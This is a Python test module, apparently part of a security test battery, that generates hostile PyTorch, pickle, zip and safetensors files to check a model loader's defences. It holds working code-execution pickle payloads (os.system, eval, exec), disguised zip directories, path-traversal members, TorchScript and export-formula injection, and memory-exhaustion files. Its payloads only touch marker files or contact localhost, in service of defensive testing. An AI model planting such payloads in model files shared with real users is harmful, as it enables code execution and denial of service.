"""Files of PyTorch that run code, lead elsewhere or fill the memory, where a loader lets them."""

from __future__ import annotations

import io
import os
import pathlib
import pickle
import socket
import struct
import webbrowser
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from itertools import chain
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch import nn

from tests.battery._attack import Case, Command, Place, loading

GROUP = "torch"


class Calls:
    """Is a call when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


def _reducers() -> dict[str, Callable[[Place], Calls]]:
    """What would leave the marker, or connect, on being unpickled."""
    return {
        "os.system": lambda at: Calls(os.system, f"touch {at.marker}"),
        "eval": lambda at: Calls(eval, f"open({str(at.marker)!r}, 'w')"),
        "exec": lambda at: Calls(exec, f"open({str(at.marker)!r}, 'w')"),
        "open": lambda at: Calls(open, str(at.marker), "w"),
        "path": lambda at: Calls(pathlib.Path.write_text, pathlib.Path(at.marker), "x"),
        "os.mkdir": lambda at: Calls(os.mkdir, str(at.marker)),
        "connect": lambda at: Calls(socket.create_connection, ("127.0.0.1", at.port)),
        "browser": lambda at: Calls(webbrowser.open, f"http://127.0.0.1:{at.port}"),
        "partial": lambda at: Calls(partial, os.system, f"touch {at.marker}"),
        "hub": lambda at: Calls(torch.hub.load_state_dict_from_url, f"http://127.0.0.1:{at.port}/x", str(at.outside)),
        "torch.save": lambda at: Calls(torch.save, 1, str(at.marker)),
        "torch.load": lambda at: Calls(torch.load, str(at.secret)),
        "from_file": lambda at: Calls(torch.from_file, str(at.marker), True, 10),
        "numpy.save": lambda at: Calls(np.save, str(at.marker), 1),
        "memmap": lambda at: Calls(np.memmap, str(at.marker), "u1", "w+", 0, 10),
        "getattr": lambda at: Calls(getattr, Calls(__import__, "os"), "system"),
        "storage": lambda at: Calls(getattr, torch.UntypedStorage, "from_file"),
    }


def system(at: Place) -> Calls:
    """The plainest of them."""
    return _reducers()["os.system"](at)


def _nested(evil: Any) -> dict[str, Any]:
    """The places in a checkpoint where one would not look for a call."""
    module = nn.Sequential(nn.Linear(2, 2))
    hooked, shadowed, hidden = nn.Linear(2, 2), nn.Linear(2, 2), nn.Linear(2, 2)
    hooked.__dict__["_forward_hooks"] = OrderedDict({0: evil})
    shadowed.__dict__["forward"] = evil
    hidden.__dict__["note"] = [{"deep": ({"er": evil},)}]
    weights = OrderedDict(w=torch.ones(2))
    vars(weights)["_metadata"] = {"": evil}
    return {
        "bare": evil,
        "in a state dict": {"state_dict": {"w": torch.ones(2), "b": evil}},
        "as a key": {"w": torch.ones(2), "x": [({}, evil)]},
        "in a module": nn.Sequential(module, hidden),
        "as a hook": hooked,
        "as a method": shadowed,
        "in metadata": weights,
    }


def saved(content: Any, *, old: bool = False, protocol: int = 2) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=not old, pickle_protocol=protocol)
    return buffer.getvalue()


def rezipped(raw: bytes, *more: tuple[str, bytes], compression: int = zipfile.ZIP_STORED, top: str = "") -> bytes:
    """An archive with further members, or the same members compressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(buffer, "w", compression) as new:
        for member in old.infolist():
            new.writestr(top + member.filename, old.read(member))
        for name, content in more:
            new.writestr(name, content)
    return buffer.getvalue()


def two_faced(hidden: bytes, shown: bytes) -> bytes:
    """Two archives with the same names in one: zipfile reads the directory of ``shown``, torch that of ``hidden``."""

    def parts(raw: bytes) -> tuple[bytes, bytearray, int]:
        end = raw.rindex(b"PK\5\6")
        count, _, start = struct.unpack_from("<HLL", raw, end + 10)
        return raw[:start], bytearray(raw[start:end]), count

    (members, directory, _), (others, read, count) = parts(hidden), parts(shown)
    assert len(directory) == len(read)
    at = 0
    while at < len(read):  # zipfile moves each place by as much as the directory is not where the end says
        place = struct.unpack_from("<L", read, at + 42)[0]
        struct.pack_into("<L", read, at + 42, place + len(members) - len(others))
        at += 46 + sum(struct.unpack_from("<3H", read, at + 28))
    end = b"PK\5\6" + struct.pack("<4H2LH", 0, 0, count, count, len(read), len(members), 0)
    return members + bytes(directory) + others + bytes(read) + end


def _two_faced(hidden: object, compression: int = zipfile.ZIP_STORED) -> bytes:
    shown = rezipped(saved({"w": torch.ones(2)}))
    return two_faced(rezipped(saved(hidden), compression=compression), shown)


class _Writes(nn.Module):
    """A program that makes a file when it is loaded, or when it is run."""

    def __init__(self, path: str, on_load: bool) -> None:
        super().__init__()
        self.path, self.on_load = path, on_load
        self.held = torch.ones(1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + torch.from_file(self.path, True, 4, dtype=torch.float32).sum() + self.held

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool, bool]:
        return self.path, self.on_load, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool, bool]) -> None:
        self.path, self.on_load, self.training = state
        self.held = torch.ones(1)
        if self.on_load:
            self.held = torch.from_file(self.path, True, 4, dtype=torch.float32)


def script(path: str, *, on_load: bool) -> bytes:
    """TorchScript that writes to ``path``."""
    buffer = io.BytesIO()
    compiled: Any = torch.jit.script
    torch.jit.save(compiled(_Writes(path, on_load)), buffer)
    return buffer.getvalue()


def exported() -> bytes:
    """A harmless torch.export archive."""
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(nn.Sequential(nn.Linear(3, 2), nn.ReLU()), (torch.ones(2, 3),)), buffer)
    return buffer.getvalue()


def _with_formula(raw: bytes, marker: Path) -> bytes:
    """An archive whose shapes are formulas that write a file when they are evaluated."""
    buffer = io.BytesIO()
    evil = f'{{"as_expr":{{"expr_str":"__import__(\'os\').system(\'touch {marker}\')","hint":null}}}}'.encode()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(buffer, "w") as new:
        for member in old.infolist():
            content = old.read(member)
            if member.filename.endswith(".json"):
                content = content.replace(b'{"as_int": 2}', evil).replace(b'{"as_int":2}', evil)
            new.writestr(member.filename, content)
    return buffer.getvalue()


def _with_pickle(raw: bytes, evil: Any) -> bytes:
    """An archive whose tensors were replaced by what makes torch.export.load fall back on an unsafe load."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(buffer, "w") as new:
        for member in old.infolist():
            content = old.read(member)
            if member.filename.endswith(".pt") or "/weight_" in member.filename or "sample_inputs" in member.filename:
                content = saved(evil)
            new.writestr(member.filename, content)
    return buffer.getvalue()


def _packaged(where: Place) -> bytes:
    buffer = io.BytesIO()
    with torch.package.PackageExporter(buffer) as exporter:
        exporter.save_source_string("evil", f"open({str(where.marker)!r}, 'w')\nclass Net: pass\n")
        exporter.save_pickle("model", "model.pkl", {"w": 1})
    return buffer.getvalue()


def _stored_lie() -> bytes:
    """Storage that is said to be larger than its record."""
    raw = saved({"w": torch.ones(4)})
    at = raw.index(b"K\x04tq")  # the number of elements, in the pickle
    return raw[: at + 1] + b"\xff" + raw[at + 2 :]


_Files = Iterator[tuple[str, str, Callable[[Place], bytes]]]
"""Each file: what it is, its name, what makes it."""


def _calling() -> _Files:
    for name, evil in _reducers().items():
        yield name, "m.pt", lambda at, evil=evil: saved({"w": torch.ones(2), "x": evil(at)})
        yield f"{name}, old format", "m.pth", lambda at, evil=evil: saved({"x": evil(at)}, old=True)
        yield f"{name}, bare pickle", "m.bin", lambda at, evil=evil: pickle.dumps(evil(at), 4) + b"rest"
    for key in _nested(None):
        yield key, "m.pt", lambda at, key=key: saved(_nested(system(at))[key])
        yield f"{key}, old format", "m.pt", lambda at, key=key: saved(_nested(system(at))[key], old=True)
        yield f"{key}, protocol 4", "m.ckpt", lambda at, key=key: saved(_nested(system(at))[key], protocol=4)
    for suffix in ("safetensors", "bin", "ckpt", "jit", "pt2", "npy", "h5", "keras", "onnx", "pb", "json", "txt"):
        yield f"a zip named .{suffix}", f"m.{suffix}", lambda at: saved({"x": system(at)})
        yield f"a pickle named .{suffix}", f"m.{suffix}", lambda at: pickle.dumps(system(at))


def _archives() -> _Files:
    good = saved(nn.Sequential(nn.Linear(3, 2)))

    def added(name: str) -> Callable[[Place], bytes]:
        return lambda at: rezipped(good, (name, pickle.dumps(system(at), 2)))

    yield "a second data.pkl", "m.pt", added("other/data.pkl")
    yield "a data.pkl before the folder", "m.pt", added("data.pkl")
    yield "added code", "m.pt", added("archive/code/evil.py")
    yield "added constants", "m.pt", added("archive/constants.pkl")
    yield "extern modules", "m.pt", added("archive/.data/extern_modules")
    yield "members outside", "m.pt", added("../../outside/marker")
    yield "an absolute member", "m.pt", lambda at: rezipped(good, (str(at.marker), b"x"))
    yield "a hidden directory", "m.pt", lambda at: _two_faced({"w": torch.ones(4), "x": system(at)})
    yield "a package", "m.pt", _packaged
    yield "TorchScript, on loading", "m.pt", lambda at: script(str(at.marker), on_load=True)
    yield "TorchScript, on running", "m.pt", lambda at: script(str(at.marker), on_load=False)
    yield (
        "TorchScript with a pickle",
        "m.pt",
        lambda at: rezipped(script(str(at.marker), on_load=False), ("archive/data.pkl", pickle.dumps(system(at), 2))),
    )
    yield "pt2 with a formula", "m.pt2", lambda at: _with_formula(exported(), at.marker)
    yield "pt2 with a pickle", "m.pt2", lambda at: _with_pickle(exported(), system(at))


def _large() -> _Files:
    yield "stride 0", "m.pt", lambda _: saved({"w": torch.zeros(1).expand(10**12)})
    yield (
        "sparse",
        "m.pt",
        lambda _: saved({"w": torch.sparse_coo_tensor(torch.zeros(2, 1).long(), [1.0], (10**6, 10**6))}),
    )
    yield "deflated", "m.pt", lambda _: rezipped(saved({"w": torch.zeros(1 << 24)}), compression=zipfile.ZIP_DEFLATED)
    yield "deflated, hidden", "m.pt", lambda _: _two_faced({"w": torch.zeros(1 << 24)}, zipfile.ZIP_DEFLATED)
    yield "storage that lies", "m.pt", lambda _: _stored_lie()
    yield "a frame of terabytes", "m.pth", lambda _: b"\x80\x04\x95" + struct.pack("<Q", 1 << 42) + b"."
    yield "a string of terabytes", "m.pth", lambda _: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 42) + b"x."
    yield "nested lists", "m.pth", lambda _: b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."
    yield "a memo of terabytes", "m.pth", lambda _: b"\x80\x02Nr" + struct.pack("<I", (1 << 32) - 1) + b"."
    yield "items of a tensor", "m.pt", lambda _: _set_items()
    yield "a header of terabytes", "m.safetensors", lambda _: struct.pack("<Q", 1 << 40) + b"{}"
    large = '{"w":{"dtype":"F32","shape":[1099511627776],"data_offsets":[0,4398046511104]}}'
    yield "a tensor of terabytes", "m.safetensors", lambda _: _safetensors(large)
    one = '{"dtype":"F32","shape":[1],"data_offsets":[0,4]}'
    yield "tensors that overlap", "m.safetensors", lambda _: _safetensors(f'{{"v":{one},"w":{one}}}') + b"1234"
    yield "a deep header", "m.safetensors", lambda _: _safetensors('{"w":' + "[" * 100_000)


def _safetensors(header: str) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode()


def _set_items() -> bytes:
    """SETITEMS on what is no dictionary (CVE-2026-24747)."""
    raw = saved({"w": torch.ones(2)})
    return raw.replace(b"}q\x00", b")q\x00") if b"}q\x00" in raw else raw[:-30]


def cases() -> Iterator[Case]:
    """Every attack by a file of PyTorch."""
    for name, file, raw in chain(_calling(), _archives(), _large()):

        def make(where: Place, file: str = file, raw: Callable[[Place], bytes] = raw) -> Sequence[Command]:
            (where.work / file).write_bytes(raw(where))
            return loading("pt", file)

        yield Case(GROUP, name, make)
